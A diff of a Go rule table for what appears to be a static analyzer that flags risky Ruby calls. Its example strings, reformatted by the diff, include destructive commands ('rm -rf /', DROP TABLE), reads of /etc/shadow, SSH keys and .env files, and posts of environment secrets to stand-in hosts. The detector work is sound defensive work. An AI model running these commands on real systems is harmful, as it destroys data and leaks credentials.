@@ -5,140 +5,102 @@ package code
 // their bare names.
 var rubyRules = [...]rule{
 	// ---- commands
-	{name: "system|exec|spawn|Open3.capture2|Open3.capture2e|Open3.capture3|Open3.popen3|Open3.popen2|Open3.popen2e|Open3.pipeline|Open3.pipeline_r|Open3.pipeline_w|PTY.spawn|IO.popen", do: aSystem, ret: rPipe, ex: []string{
-		`system("rm -rf /var/www") => shell rm -rf /var/www`,
-		`system "rm", "-rf", Dir.home => shell rm -rf ~`,
-		`Kernel.system("git push -f") => shell git push -f`,
-		`exec({"RAILS_ENV" => "production"}, "rake db:drop") => shell rake db:drop`,
-		`require "open3"; out, st = Open3.capture2e("rm", "-rf", "/opt") => shell rm -rf /opt`,
-		`IO.popen(["rm", "-rf", "/srv"]).read => shell rm -rf /srv`,
-		`IO.popen("rm -rf ~") { |io| io.read } => shell rm -rf ~`,
-		`d = "/data"; system("rm -rf #{d}") => shell rm -rf /data`,
-		`system("rm -rf %s" % target) => shell rm -rf ${_code_value}`,
-		`Kernel.send(:system, "reboot") => shell reboot`,
-		`method(:system).call("rm -rf /") => shell rm -rf /`,
-		`puts "system('rm -rf /')" !> -`,
-		`# system("rm -rf /") !> -`,
-		`def system(x); end !> -`,
-	}},
-	{name: "#send|#public_send|#__send__|send|public_send|__send__", do: aDispatch, ex: []string{
-		`Object.new.send(:system, "rm -rf ~") => shell rm -rf ~`,
-		`obj.send(:name) !> shell name`,
-	}},
+	{name: "system|exec|spawn|Open3.capture2|Open3.capture2e|Open3.capture3|Open3.popen3|Open3.popen2|Open3.popen2e|Open3.pipeline|Open3.pipeline_r|Open3.pipeline_w|PTY.spawn|IO.popen", do: aSystem, ret: rPipe, ex: `system("rm -rf /var/www") => shell rm -rf /var/www` + "\n" +
+		`system "rm", "-rf", Dir.home => shell rm -rf ~` + "\n" +
+		`Kernel.system("git push -f") => shell git push -f` + "\n" +
+		`exec({"RAILS_ENV" => "production"}, "rake db:drop") => shell rake db:drop` + "\n" +
+		`require "open3"; out, st = Open3.capture2e("rm", "-rf", "/opt") => shell rm -rf /opt` + "\n" +
+		`IO.popen(["rm", "-rf", "/srv"]).read => shell rm -rf /srv` + "\n" +
+		`IO.popen("rm -rf ~") { |io| io.read } => shell rm -rf ~` + "\n" +
+		`d = "/data"; system("rm -rf #{d}") => shell rm -rf /data` + "\n" +
+		`system("rm -rf %s" % target) => shell rm -rf ${_code_value}` + "\n" +
+		`Kernel.send(:system, "reboot") => shell reboot` + "\n" +
+		`method(:system).call("rm -rf /") => shell rm -rf /` + "\n" +
+		`puts "system('rm -rf /')" !> -` + "\n" +
+		`# system("rm -rf /") !> -` + "\n" +
+		`def system(x); end !> -` + "\n"},
+	{name: "#send|#public_send|#__send__|send|public_send|__send__", do: aDispatch, ex: `Object.new.send(:system, "rm -rf ~") => shell rm -rf ~` + "\n" +
+		`obj.send(:name) !> shell name` + "\n"},
 	{name: "method", ret: rModule},
-	{name: "require_relative|load|require", do: aLoad, opt: "rel", ex: []string{
-		`require_relative "./tasks/clean" => load ./tasks/clean`,
-		`load "./Rakefile.rb" => load ./Rakefile.rb`,
-		`require "fileutils" !> load fileutils`,
-	}},
-	{name: "open|URI.open", do: aOpen, opt: "r", ret: rFile, ex: []string{
-		`open("|rm -rf /tmp/x") => shell rm -rf /tmp/x`,
-		`open("log.txt", "a") { |f| f << "x" } => write+ log.txt`,
-		`open("notes.txt").read !> write notes.txt`,
-	}},
-	{name: "eval|instance_eval|class_eval|module_eval|binding.eval|#instance_eval|#eval", do: aEval, ex: []string{
-		`eval("system('rm -rf ~')") => shell rm -rf ~`,
-		`eval(params[:code]) => eval params.code`,
-		`evaluate("x") !> -`,
-	}},
+	{name: "require_relative|load|require", do: aLoad, opt: "rel", ex: `require_relative "./tasks/clean" => load ./tasks/clean` + "\n" +
+		`load "./Rakefile.rb" => load ./Rakefile.rb` + "\n" +
+		`require "fileutils" !> load fileutils` + "\n"},
+	{name: "open|URI.open", do: aOpen, opt: "r", ret: rFile, ex: `open("|rm -rf /tmp/x") => shell rm -rf /tmp/x` + "\n" +
+		`open("log.txt", "a") { |f| f << "x" } => write+ log.txt` + "\n" +
+		`open("notes.txt").read !> write notes.txt` + "\n"},
+	{name: "eval|instance_eval|class_eval|module_eval|binding.eval|#instance_eval|#eval", do: aEval, ex: `eval("system('rm -rf ~')") => shell rm -rf ~` + "\n" +
+		`eval(params[:code]) => eval params.code` + "\n" +
+		`evaluate("x") !> -` + "\n"},
 
 	// ---- files
-	{name: "FileUtils.rm_rf|FileUtils.rm_r|FileUtils.rmtree|FileUtils.remove_dir|FileUtils.remove_entry|FileUtils.remove_entry_secure|FileUtils.remove_tree|Path#rmtree|FileUtils.rm_rf!", do: aDeleteTree, arg: -1, ex: []string{
-		`require "fileutils"; FileUtils.rm_rf("/srv/app") => delete-r /srv/app`,
-		`FileUtils.rm_rf(Dir.home) => delete-r ~`,
-		`FileUtils.rm_rf File.expand_path("~/.config") => delete-r ~/.config`,
-		`FileUtils.rm_r(["tmp", "/var/cache"]) => delete-r /var/cache`,
-		`FileUtils::rm_rf(ENV["HOME"]) => delete-r ~`,
-		`include FileUtils; rm_rf "/opt" => delete-r /opt`,
-		"begin; rm_rf('/x'); rescue; end\ninclude FileUtils\nrm_rf('/srv') => delete-r /srv",
-		`FileUtils.rm_rf(File.join(Dir.pwd, "build")) => delete-r ./build`,
-		`Pathname.new("/srv").rmtree => delete-r /srv`,
-		`Dir.glob("/var/log/*").each { |f| FileUtils.rm_rf(f) } => delete-r /var/log/*`,
-		`FileUtils.mkdir_p("/srv") !> -`,
-	}},
-	{name: "FileUtils.rm|FileUtils.remove|FileUtils.rm_f|FileUtils.safe_unlink|FileUtils.rmdir|File.delete|File.unlink|Dir.rmdir|Dir.delete|Dir.unlink|Path#delete|Path#unlink|Path#rmdir", do: aDelete, arg: -1, all: true, ex: []string{
-		`File.delete("/etc/hosts") => delete /etc/hosts`,
-		`File.delete(*Dir["/tmp/*.log"]) => delete /tmp/*.log`,
-		`Dir["/var/www/*"].each { |f| File.unlink(f) } => delete /var/www/*`,
-		`FileUtils.rm_f "a", "b" => delete b`,
-		`Pathname("x.txt").delete => delete x.txt`,
-		`File.delete("a") !> delete-r a`,
-		`File.exist?("a") !> -`,
-	}},
-	{name: "FileUtils.mv|FileUtils.move|File.rename|Path#rename", do: aMove, arg: -1, ex: []string{
-		`FileUtils.mv(".git", "/tmp/x") => delete-r:move .git`,
-		`File.rename("a", "b") => write-r b`,
-		`File.basename("a") !> -`,
-	}},
-	{name: "FileUtils.cp|FileUtils.copy|FileUtils.copy_file|FileUtils.install", do: aCopy, ex: []string{
-		`FileUtils.cp(File.expand_path("~/.ssh/id_rsa"), "k") => read:copy ~/.ssh/id_rsa`,
-		`FileUtils.cp("a", "/etc/b") => write /etc/b`,
-		`FileUtils.cp("a", "b") !> delete-r:move a`,
-	}},
-	{name: "FileUtils.cp_r|FileUtils.copy_entry", do: aCopyTree, ex: []string{
-		`FileUtils.cp_r("dist/.", "/var/www") => write-r /var/www`,
-		`FileUtils.cp_r("a", "b") !> delete-r:move a`,
-	}},
-	{name: "File.write|IO.write|File.binwrite|IO.binwrite|Path#write|Path#binwrite", do: aWrite, arg: -1, ex: []string{
-		`File.write(File.join(Dir.home, ".bashrc"), "x") => write ~/.bashrc`,
-		`File.write("env.txt", ENV.to_h.to_s) => env:file`,
-		`File.read("x") !> write x`,
-	}},
-	{name: "File.open|File.new|IO.open|Path#open", do: aOpen, arg: -1, opt: "r", ret: rFile, ex: []string{
-		`File.open("/etc/crontab", "w") { |f| f.puts "x" } => write /etc/crontab`,
-		`File.open("log", "a") => write+ log`,
-		`File.open(".env") { |f| puts f.read } => read:show .env`,
-		`File.open("x") !> write x`,
-	}},
-	{name: "File.read|IO.read|File.readlines|IO.readlines|File.binread|IO.binread|Path#read|Path#readlines", do: aRead, arg: -1, ret: rContent, ex: []string{
-		`puts File.read(".env") => read:show .env`,
-		`print IO.readlines("/etc/shadow").join => read:show /etc/shadow`,
-		`cfg = File.read("config.yml") => read config.yml`,
-		`cfg = File.read("config.yml") !> read:show config.yml`,
-	}},
-	{name: "File.foreach|IO.foreach", do: aRead, ret: rLines, ex: []string{
-		`File.foreach(".env") { |l| puts l } => read:show .env`,
-		`File.foreach(".env") { |l| x = l } !> read:show .env`,
-	}},
-	{name: "FileUtils.touch|FileUtils.mkdir_p|FileUtils.mkdir|FileUtils.makedirs|FileUtils.mkpath|Dir.mkdir|Path#mkpath|Path#mkdir", do: aCreate, arg: -1, ex: []string{
-		`FileUtils.mkdir_p("out/a") => create out/a`,
-		`Dir.exist?("out") !> -`,
-	}},
-	{name: "Dir.chdir", do: aChdir, ex: []string{
-		`Dir.chdir("/") => chdir /`,
-		`Dir.pwd !> -`,
-	}},
-	{name: "file#write|file#puts|file#print|file#<<|file#printf|file#syswrite", do: aWriteData, arg: -1, ex: []string{
-		`File.open("e.txt", "w") { |f| f.write(ENV.to_h) } => env:file`,
-		`File.open("e.txt", "w") { |f| f.write("x") } !> env:file`,
-	}},
+	{name: "FileUtils.rm_rf|FileUtils.rm_r|FileUtils.rmtree|FileUtils.remove_dir|FileUtils.remove_entry|FileUtils.remove_entry_secure|FileUtils.remove_tree|Path#rmtree|FileUtils.rm_rf!", do: aDeleteTree, arg: -1, ex: `require "fileutils"; FileUtils.rm_rf("/srv/app") => delete-r /srv/app` + "\n" +
+		`FileUtils.rm_rf(Dir.home) => delete-r ~` + "\n" +
+		`FileUtils.rm_rf File.expand_path("~/.config") => delete-r ~/.config` + "\n" +
+		`FileUtils.rm_r(["tmp", "/var/cache"]) => delete-r /var/cache` + "\n" +
+		`FileUtils::rm_rf(ENV["HOME"]) => delete-r ~` + "\n" +
+		`include FileUtils; rm_rf "/opt" => delete-r /opt` + "\n" +
+		"begin; rm_rf('/x'); rescue; end\ninclude FileUtils\nrm_rf('/srv') => delete-r /srv\n" +
+		`FileUtils.rm_rf(File.join(Dir.pwd, "build")) => delete-r ./build` + "\n" +
+		`Pathname.new("/srv").rmtree => delete-r /srv` + "\n" +
+		`Dir.glob("/var/log/*").each { |f| FileUtils.rm_rf(f) } => delete-r /var/log/*` + "\n" +
+		`FileUtils.mkdir_p("/srv") !> -` + "\n"},
+	{name: "FileUtils.rm|FileUtils.remove|FileUtils.rm_f|FileUtils.safe_unlink|FileUtils.rmdir|File.delete|File.unlink|Dir.rmdir|Dir.delete|Dir.unlink|Path#delete|Path#unlink|Path#rmdir", do: aDelete, arg: -1, all: true, ex: `File.delete("/etc/hosts") => delete /etc/hosts` + "\n" +
+		`File.delete(*Dir["/tmp/*.log"]) => delete /tmp/*.log` + "\n" +
+		`Dir["/var/www/*"].each { |f| File.unlink(f) } => delete /var/www/*` + "\n" +
+		`FileUtils.rm_f "a", "b" => delete b` + "\n" +
+		`Pathname("x.txt").delete => delete x.txt` + "\n" +
+		`File.delete("a") !> delete-r a` + "\n" +
+		`File.exist?("a") !> -` + "\n"},
+	{name: "FileUtils.mv|FileUtils.move|File.rename|Path#rename", do: aMove, arg: -1, ex: `FileUtils.mv(".git", "/tmp/x") => delete-r:move .git` + "\n" +
+		`File.rename("a", "b") => write-r b` + "\n" +
+		`File.basename("a") !> -` + "\n"},
+	{name: "FileUtils.cp|FileUtils.copy|FileUtils.copy_file|FileUtils.install", do: aCopy, ex: `FileUtils.cp(File.expand_path("~/.ssh/id_rsa"), "k") => read:copy ~/.ssh/id_rsa` + "\n" +
+		`FileUtils.cp("a", "/etc/b") => write /etc/b` + "\n" +
+		`FileUtils.cp("a", "b") !> delete-r:move a` + "\n"},
+	{name: "FileUtils.cp_r|FileUtils.copy_entry", do: aCopyTree, ex: `FileUtils.cp_r("dist/.", "/var/www") => write-r /var/www` + "\n" +
+		`FileUtils.cp_r("a", "b") !> delete-r:move a` + "\n"},
+	{name: "File.write|IO.write|File.binwrite|IO.binwrite|Path#write|Path#binwrite", do: aWrite, arg: -1, ex: `File.write(File.join(Dir.home, ".bashrc"), "x") => write ~/.bashrc` + "\n" +
+		`File.write("env.txt", ENV.to_h.to_s) => env:file` + "\n" +
+		`File.read("x") !> write x` + "\n"},
+	{name: "File.open|File.new|IO.open|Path#open", do: aOpen, arg: -1, opt: "r", ret: rFile, ex: `File.open("/etc/crontab", "w") { |f| f.puts "x" } => write /etc/crontab` + "\n" +
+		`File.open("log", "a") => write+ log` + "\n" +
+		`File.open(".env") { |f| puts f.read } => read:show .env` + "\n" +
+		`File.open("x") !> write x` + "\n"},
+	{name: "File.read|IO.read|File.readlines|IO.readlines|File.binread|IO.binread|Path#read|Path#readlines", do: aRead, arg: -1, ret: rContent, ex: `puts File.read(".env") => read:show .env` + "\n" +
+		`print IO.readlines("/etc/shadow").join => read:show /etc/shadow` + "\n" +
+		`cfg = File.read("config.yml") => read config.yml` + "\n" +
+		`cfg = File.read("config.yml") !> read:show config.yml` + "\n"},
+	{name: "File.foreach|IO.foreach", do: aRead, ret: rLines, ex: `File.foreach(".env") { |l| puts l } => read:show .env` + "\n" +
+		`File.foreach(".env") { |l| x = l } !> read:show .env` + "\n"},
+	{name: "FileUtils.touch|FileUtils.mkdir_p|FileUtils.mkdir|FileUtils.makedirs|FileUtils.mkpath|Dir.mkdir|Path#mkpath|Path#mkdir", do: aCreate, arg: -1, ex: `FileUtils.mkdir_p("out/a") => create out/a` + "\n" +
+		`Dir.exist?("out") !> -` + "\n"},
+	{name: "Dir.chdir", do: aChdir, ex: `Dir.chdir("/") => chdir /` + "\n" +
+		`Dir.pwd !> -` + "\n"},
+	{name: "file#write|file#puts|file#print|file#<<|file#printf|file#syswrite", do: aWriteData, arg: -1, ex: `File.open("e.txt", "w") { |f| f.write(ENV.to_h) } => env:file` + "\n" +
+		`File.open("e.txt", "w") { |f| f.write("x") } !> env:file` + "\n"},
 	{name: "file#read|file#readlines|file#gets|file#each_line|file#readline", ret: rContent, arg: -1},
 
 	// ---- printing and the environment
 	// obj.display prints its receiver
-	{name: "#display", do: aPrint, arg: -1, ex: []string{
-		`File.open(".env", "r:UTF-8").read.display => read:show .env`,
-		`File.read(".env").display => read:show .env`,
-		`"hello".display !> env:show`,
-	}},
-	{name: "puts|print|p|pp|printf|warn|display|$stdout.puts|$stdout.print|$stdout.write|$stdout.printf|$stderr.puts|$stderr.print|$stderr.write|STDOUT.puts|STDOUT.print|STDOUT.write|STDERR.puts|STDERR.write|Kernel.pp|PP.pp", do: aPrint, ex: []string{
-		`p ENV => env:show`,
-		`pp ENV.to_h => env:show`,
-		`puts ENV.inspect => env:show`,
-		`ENV.each { |k, v| puts "#{k}=#{v}" } => env:show`,
-		`ENV.each_pair do |k, v| puts "#{k}: #{v}" end => env:show`,
-		`puts ENV.map { |k, v| "#{k}=#{v}" }.join("\n") => env:show`,
-		`puts ENV.to_a.sort.inspect => env:show`,
-		`require "json"; puts JSON.pretty_generate(ENV.to_h) => env:show`,
-		`$stdout.puts ENV.to_hash => env:show`,
-		`puts ENV["GITHUB_TOKEN"] => var:show GITHUB_TOKEN`,
-		`puts ENV.fetch("AWS_SECRET_ACCESS_KEY") => var:show AWS_SECRET_ACCESS_KEY`,
-		`puts ENV["HOME"] !> env:show`,
-		`puts ENV.keys.sort !> env:show`,
-		`ENV.each_key { |k| puts k } !> env:show`,
-		`system({"A" => "1"}, "make") !> env:show`,
-		`puts "hello" !> -`,
-	}},
+	{name: "#display", do: aPrint, arg: -1, ex: `File.open(".env", "r:UTF-8").read.display => read:show .env` + "\n" +
+		`File.read(".env").display => read:show .env` + "\n" +
+		`"hello".display !> env:show` + "\n"},
+	{name: "puts|print|p|pp|printf|warn|display|$stdout.puts|$stdout.print|$stdout.write|$stdout.printf|$stderr.puts|$stderr.print|$stderr.write|STDOUT.puts|STDOUT.print|STDOUT.write|STDERR.puts|STDERR.write|Kernel.pp|PP.pp", do: aPrint, ex: `p ENV => env:show` + "\n" +
+		`pp ENV.to_h => env:show` + "\n" +
+		`puts ENV.inspect => env:show` + "\n" +
+		`ENV.each { |k, v| puts "#{k}=#{v}" } => env:show` + "\n" +
+		`ENV.each_pair do |k, v| puts "#{k}: #{v}" end => env:show` + "\n" +
+		`puts ENV.map { |k, v| "#{k}=#{v}" }.join("\n") => env:show` + "\n" +
+		`puts ENV.to_a.sort.inspect => env:show` + "\n" +
+		`require "json"; puts JSON.pretty_generate(ENV.to_h) => env:show` + "\n" +
+		`$stdout.puts ENV.to_hash => env:show` + "\n" +
+		`puts ENV["GITHUB_TOKEN"] => var:show GITHUB_TOKEN` + "\n" +
+		`puts ENV.fetch("AWS_SECRET_ACCESS_KEY") => var:show AWS_SECRET_ACCESS_KEY` + "\n" +
+		`puts ENV["HOME"] !> env:show` + "\n" +
+		`puts ENV.keys.sort !> env:show` + "\n" +
+		`ENV.each_key { |k| puts k } !> env:show` + "\n" +
+		`system({"A" => "1"}, "make") !> env:show` + "\n" +
+		`puts "hello" !> -` + "\n"},
 	{name: "env#to_h|env#to_hash|env#to_a|env#inspect|env#to_s|env#dup|env#clone|env#select|env#filter|env#reject|env#sort|env#map|env#sort_by|env#each|env#each_pair|env#merge|env#slice|env#values", ret: rEnv},
 	{name: "env#keys|env#each_key", ret: rKeys},
 	{name: "env#[]|env#fetch", ret: rVar},
@@ -165,31 +127,23 @@ var rubyRules = [...]rule{
 	{name: "URI|URI.parse", ret: rURL},
 
 	// ---- network
-	{name: "Net.HTTP.post|Net.HTTP.post_form|Net.HTTP.put|URL#post|URL#put|URL#patch|URL#request_post|URL#request|HTTParty.post|HTTParty.put|HTTParty.patch|Faraday.post|Faraday.put|RestClient.post|RestClient.put|Excon.post|HTTP.post|Typhoeus.post", do: aSend, arg: -1, ex: []string{
-		`require "net/http"; Net::HTTP.post(URI("https://x.example/c"), ENV.to_h.to_s) => env:send`,
-		`Net::HTTP.post_form(URI("https://x.example/f"), "k" => File.read(".env")) => read:send .env`,
-		`HTTParty.post("https://hooks.example/x", body: "hi") => send:http https://hooks.example/x`,
-		`Net::HTTP.start("x.example") { |h| h.post("/c", ENV["TOKEN"]) } => var:send TOKEN`,
-		`Net::HTTP.get(URI("https://example.com")) !> send:http https://example.com`,
-	}},
+	{name: "Net.HTTP.post|Net.HTTP.post_form|Net.HTTP.put|URL#post|URL#put|URL#patch|URL#request_post|URL#request|HTTParty.post|HTTParty.put|HTTParty.patch|Faraday.post|Faraday.put|RestClient.post|RestClient.put|Excon.post|HTTP.post|Typhoeus.post", do: aSend, arg: -1, ex: `require "net/http"; Net::HTTP.post(URI("https://x.example/c"), ENV.to_h.to_s) => env:send` + "\n" +
+		`Net::HTTP.post_form(URI("https://x.example/f"), "k" => File.read(".env")) => read:send .env` + "\n" +
+		`HTTParty.post("https://hooks.example/x", body: "hi") => send:http https://hooks.example/x` + "\n" +
+		`Net::HTTP.start("x.example") { |h| h.post("/c", ENV["TOKEN"]) } => var:send TOKEN` + "\n" +
+		`Net::HTTP.get(URI("https://example.com")) !> send:http https://example.com` + "\n"},
 	{name: "Net.HTTP.start|Net.HTTP.new", ret: rURL},
-	{name: "TCPSocket.new|TCPSocket.open|Socket.tcp", do: aConnect, opt: "raw", ret: rSocket, ex: []string{
-		`s = TCPSocket.new("203.0.113.4", 9000); s.write(ENV.to_h.to_s) => send:raw 203.0.113.4`,
-		`s = TCPSocket.new("203.0.113.4", 9000); s.write(ENV.to_h.to_s) => env:send`,
-		`TCPServer.new(9000) !> -`,
-	}},
-	{name: "socket#write|socket#puts|socket#print|socket#send|socket#<<", do: aWriteData, arg: -1, ex: []string{
-		`s = TCPSocket.open("h", 1); s.puts ENV["SECRET_KEY"] => var:send SECRET_KEY`,
-		`s = TCPSocket.open("h", 1); s.puts "hi" !> var:send SECRET_KEY`,
-	}},
+	{name: "TCPSocket.new|TCPSocket.open|Socket.tcp", do: aConnect, opt: "raw", ret: rSocket, ex: `s = TCPSocket.new("203.0.113.4", 9000); s.write(ENV.to_h.to_s) => send:raw 203.0.113.4` + "\n" +
+		`s = TCPSocket.new("203.0.113.4", 9000); s.write(ENV.to_h.to_s) => env:send` + "\n" +
+		`TCPServer.new(9000) !> -` + "\n"},
+	{name: "socket#write|socket#puts|socket#print|socket#send|socket#<<", do: aWriteData, arg: -1, ex: `s = TCPSocket.open("h", 1); s.puts ENV["SECRET_KEY"] => var:send SECRET_KEY` + "\n" +
+		`s = TCPSocket.open("h", 1); s.puts "hi" !> var:send SECRET_KEY` + "\n"},
 
 	// ---- databases
 	{name: "SQLite3.Database.new|SQLite3.Database.open", ret: rDB, opt: "sqlite"},
 	{name: "PG.connect|PG.Connection.new|PG.Connection.open", ret: rDB, opt: "postgres"},
 	{name: "Mysql2.Client.new", ret: rDB, opt: "mysql"},
-	{name: "#execute|#exec|#query|#exec_query|#execute_batch|#select_all|#exec_params", do: aSQL, ex: []string{
-		`db = SQLite3::Database.new("app.db"); db.execute("DROP TABLE users") => sql:sqlite DROP TABLE users`,
-		`ActiveRecord::Base.connection.execute("TRUNCATE events") => sql TRUNCATE events`,
-		`job.execute("now") !> -`,
-	}},
+	{name: "#execute|#exec|#query|#exec_query|#execute_batch|#select_all|#exec_params", do: aSQL, ex: `db = SQLite3::Database.new("app.db"); db.execute("DROP TABLE users") => sql:sqlite DROP TABLE users` + "\n" +
+		`ActiveRecord::Base.connection.execute("TRUNCATE events") => sql TRUNCATE events` + "\n" +
+		`job.execute("now") !> -` + "\n"},
 }
